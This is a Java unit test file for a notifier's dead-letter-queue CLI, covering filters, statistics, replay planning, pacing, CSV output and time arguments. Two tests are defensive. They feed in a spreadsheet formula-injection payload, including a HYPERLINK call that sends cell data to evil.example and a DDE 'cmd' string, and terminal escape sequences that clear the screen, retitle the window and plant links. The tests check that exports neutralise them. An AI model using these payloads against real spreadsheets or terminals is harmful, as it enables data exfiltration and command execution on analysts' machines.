package dev.notifier.cli.ops.dlt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.notifier.avro.DeadLetter;
import dev.notifier.avro.DeliveryState;
import dev.notifier.avro.DeliveryStatus;
import dev.notifier.avro.Notification;
import dev.notifier.avro.Priority;
import dev.notifier.avro.Recipient;
import dev.notifier.cli.ops.Csv;
import dev.notifier.cli.ops.OpsException;
import dev.notifier.cli.ops.StatusEntry;
import dev.notifier.cli.ops.TimeArgs;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The small parts of the dlt tools, without a broker: filter, grouping, replay rule, pacing, CSV, time arguments. */
class DltUnitsTest {

  private static final Instant T = Instant.parse("2026-11-21T10:15:00Z");

  @Test
  void filterMatchesCodesDomainsAndTimeRange() {
    DeadLetterEntry e = entry(0, 1, "n1", "Gone@Example.ORG", "DEAD_RECIPIENT", 550, "5.1.1", T);
    DltFilter byCode = new DltFilter(Set.of(), Set.of("dead_recipient"), Set.of("5.1.1"), Set.of(), Set.of(),
        Set.of("@example.org"), Set.of(), Set.of(), Set.of(), Set.of(), T.minusSeconds(1), T.plusSeconds(1));
    assertThat(byCode.test(e)).isTrue();
    assertThat(new DltFilter(Set.of(), Set.of(), Set.of("554"), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(),
        Set.of(), Set.of(), null, null).test(e)).isFalse();
    assertThat(new DltFilter(Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(),
        Set.of(), T, null).test(e)).as("since is inclusive").isTrue();
    assertThat(new DltFilter(Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(),
        Set.of(), null, T).test(e)).as("until is exclusive").isFalse();
    DltFilter byTemplate = new DltFilter(Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(),
        Set.of(), Set.of("bug"), Set.of("1"), null, null);
    assertThat(byTemplate.test(e)).as("template bug, attempts 1").isTrue();
    assertThat(byTemplate.isRestrictedBeyondTime()).as("a replay may take a template alone").isTrue();
    assertThat(new DltFilter(Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(),
        Set.of("story"), Set.of(), null, null).test(e)).isFalse();
    assertThat(new DltFilter(Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(), Set.of(),
        Set.of(), Set.of("2"), null, null).test(e)).isFalse();
    assertThat(DltFilter.all().isRestricted()).isFalse();
  }

  @Test
  void statsGroupLargestFirstAndByHour() {
    List<DeadLetterEntry> entries = List.of(
        entry(0, 1, "a", "x@a.org", "DEAD_RECIPIENT", 550, "5.1.1", T),
        entry(0, 2, "b", "y@a.org", "DEAD_RECIPIENT", 550, "5.1.1", T.plusSeconds(3600)),
        entry(1, 1, "c", "z@b.org", "PERMANENT", 554, "5.7.1", T));
    DltStats byDomain = DltStats.of(entries, Dimension.parse(List.of("class", "domain")));
    assertThat(byDomain.groups()).containsExactly(
        new DltStats.Group(List.of("DEAD_RECIPIENT", "a.org"), 2), new DltStats.Group(List.of("PERMANENT", "b.org"), 1));
    DltStats byHour = DltStats.of(entries, Dimension.parse(List.of("hour")));
    assertThat(byHour.groups()).containsExactly(new DltStats.Group(List.of("2026-11-21T10:00Z"), 2),
        new DltStats.Group(List.of("2026-11-21T11:00Z"), 1));
    assertThatThrownBy(() -> Dimension.parse(List.of("colour"))).isInstanceOf(OpsException.class)
        .hasMessageContaining("'colour'").hasMessageContaining("enhanced-code");
  }

  @Test
  void replayPlanReplaysOnlyTheLatestLetterOfWhatIsStillDead() {
    List<DeadLetterEntry> entries = List.of(
        entry(0, 1, "dead", "a@x.org", "DEAD_RECIPIENT", 550, "5.1.1", T),
        entry(0, 2, "sent", "b@x.org", "DEAD_RECIPIENT", 550, "5.1.1", T),
        entry(0, 3, "queued", "c@x.org", "DEAD_RECIPIENT", 550, "5.1.1", T),
        entry(0, 4, "dead", "a@x.org", "DEAD_RECIPIENT", 550, "5.1.1", T),
        entry(0, 5, "unknown", "d@x.org", "DEAD_RECIPIENT", 550, "5.1.1", T));
    ReplayPlan plan = ReplayPlan.of(entries, Map.of(
        "dead", status("dead", DeliveryState.DEAD), "sent", status("sent", DeliveryState.SENT),
        "queued", status("queued", DeliveryState.QUEUED)));
    assertThat(plan.toReplay()).extracting(DeadLetterEntry::offset).containsExactly(4L, 5L);
    assertThat(plan.skippedSummary()).isEqualTo("already-sent=1, in-flight=1, superseded=1");
    assertThat(plan.skippedCount()).isEqualTo(3);
  }

  @Test
  void pacerSpacesCallsWithoutBurstingToCatchUp() throws Exception {
    long[] now = {0};
    List<Duration> waits = new ArrayList<>();
    Pacer pacer = new Pacer(4, () -> now[0], d -> {
      waits.add(d);
      now[0] += d.toNanos();
    });
    for (int i = 0; i < 3; i++) {
      pacer.acquire();
    }
    assertThat(waits).containsExactly(Duration.ofMillis(250), Duration.ofMillis(250));
    now[0] += Duration.ofSeconds(10).toNanos();
    pacer.acquire();
    pacer.acquire();
    assertThat(waits).hasSize(3).last().isEqualTo(Duration.ofMillis(250));
    assertThatThrownBy(() -> new Pacer(0, () -> 0, d -> { })).hasMessageContaining("rate 0.0");
  }

  @Test
  void aBulkReplayIsPacedAtTwentyASecondUnlessToldOtherwise() throws Exception {
    // the storm: --all without --rate; 41 notifications take two seconds, not a burst
    long[] now = {0};
    ReplayService.Request all = new ReplayService.Request(DltFilter.all(), true, "outage over", null, 3, false);
    all.check();
    Pacer pacer = all.pacer(() -> now[0], d -> now[0] += d.toNanos());
    for (int i = 0; i < 41; i++) {
      pacer.acquire();
    }
    assertThat(Duration.ofNanos(now[0])).isEqualTo(Duration.ofSeconds(2));

    now[0] = 0;
    Pacer slower = new ReplayService.Request(DltFilter.all(), true, "outage over", 5.0, 3, false)
        .pacer(() -> now[0], d -> now[0] += d.toNanos());
    for (int i = 0; i < 11; i++) {
      slower.acquire();
    }
    assertThat(Duration.ofNanos(now[0])).isEqualTo(Duration.ofSeconds(2));
  }

  @Test
  void csvQuotesWhatNeedsIt() {
    assertThat(Csv.line(List.of("a", "b,c", "say \"hi\"", "x\ny", ""))).isEqualTo("a,\"b,c\",\"say \"\"hi\"\"\",\"x\ny\",");
  }

  @Test
  void aFormulaInAReplyTextIsExportedToCsvAsText() {
    // the attack: a mail server answers with a spreadsheet formula that an analyst's export would run
    DeadLetterEntry e = entry(0, 7, "n-1", "bob@example.com", "PERMANENT", 550, "5.7.1", T);
    e.letter().setReplyText("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
    e.letter().setFix("+1+cmd|' /C calc'!A0");
    StringWriter out = new StringWriter();

    DltFormat.CSV.write(List.of(e), new PrintWriter(out));

    String row = out.toString().lines().toList().get(1);
    assertThat(row).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",")
        .contains(",'+1+cmd|' /C calc'!A0,")
        .doesNotContain(",=HYPERLINK").doesNotContain(",+1");
  }

  @Test
  void everyFormulaStartIsNeutralisedAndOtherFieldsAreLeftAlone() {
    assertThat(Csv.line(List.of("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "a=b", "2026-11-21T10:15:00Z", "")))
        .isEqualTo("'=1+1,'+1,'-1,'@SUM(A1),'\tx,\"'\rx\",a=b,2026-11-21T10:15:00Z,");
  }

  @Test
  void escapeSequencesInAReplyTextNeverReachTheTerminal() {
    // the attack: a reply text that clears the screen, retitles the window, plants a link and hides text
    DeadLetterEntry e = entry(0, 7, "n-1", "bob@example.com", "PERMANENT", 550, "5.7.1", T);
    e.letter().setReplyText("550 \u001b[2J\u001b[1;1Hall good\u001b]0;owned\u0007\u001b]8;;http://evil.example\u001b\\x"
        + "\u001b]8;;\u001b\\ \u009b31mred\u202Eevil\u0000\u007f\r\nBcc");
    StringWriter out = new StringWriter();

    DltFormat.TABLE.write(List.of(e), new PrintWriter(out));

    String printed = out.toString();
    assertThat(printed).doesNotContainPattern("[\\x00-\\x08\\x0B-\\x1F\\x7F\\x{80}-\\x{9F}\\x{202E}]");
    assertThat(printed.lines().toList().get(1)).endsWith("550 all goodx redevil Bcc");
  }

  @Test
  void timeArgumentsAcceptInstantsAndDurationsAndNameBadOnes() {
    assertThat(TimeArgs.instant("--since", "2h", T)).isEqualTo(T.minus(Duration.ofHours(2)));
    assertThat(TimeArgs.instant("--since", "2026-11-20T00:00:00Z", T)).isEqualTo(Instant.parse("2026-11-20T00:00:00Z"));
    assertThat(TimeArgs.duration("--timeout", "PT1M")).isEqualTo(Duration.ofMinutes(1));
    assertThatThrownBy(() -> TimeArgs.instant("--until", "soon", T)).hasMessageContaining("--until 'soon'")
        .hasMessageContaining("2h");
    assertThat(TimeArgs.range("2h", null, T)).isEqualTo(new TimeArgs.Range(T.minus(Duration.ofHours(2)), null));
    assertThatThrownBy(() -> TimeArgs.range("1h", "2h", T)).isInstanceOf(OpsException.class)
        .hasMessageContaining("--since 1h").hasMessageContaining("is not before --until 2h")
        .hasMessageContaining("swap them");
  }

  private static StatusEntry status(String id, DeliveryState state) {
    return new StatusEntry(0, 0, DeliveryStatus.newBuilder().setNotificationId(id).setEventId("e").setState(state)
        .setAt(T).build());
  }

  private static DeadLetterEntry entry(int partition, long offset, String id, String email, String cls, int code,
      String enhanced, Instant at) {
    Notification n = Notification.newBuilder().setPriority(Priority.NORMAL).setNotificationId(id).setEventId("e").setEventType("bug.assigned")
        .setTemplate("bug").setAccount("default").setRecipient(Recipient.newBuilder().setEmail(email).build())
        .setSubject("s").setTextBody("t").setCreatedAt(at).build();
    DeadLetter letter = DeadLetter.newBuilder().setNotification(n).setFailureClass(cls).setReplyCode(code)
        .setEnhancedCode(enhanced).setAccount("default").setFirstFailureAt(at).setLastFailureAt(at).build();
    return new DeadLetterEntry("notifier.send.dlt", partition, offset, letter, Map.of());
  }
}
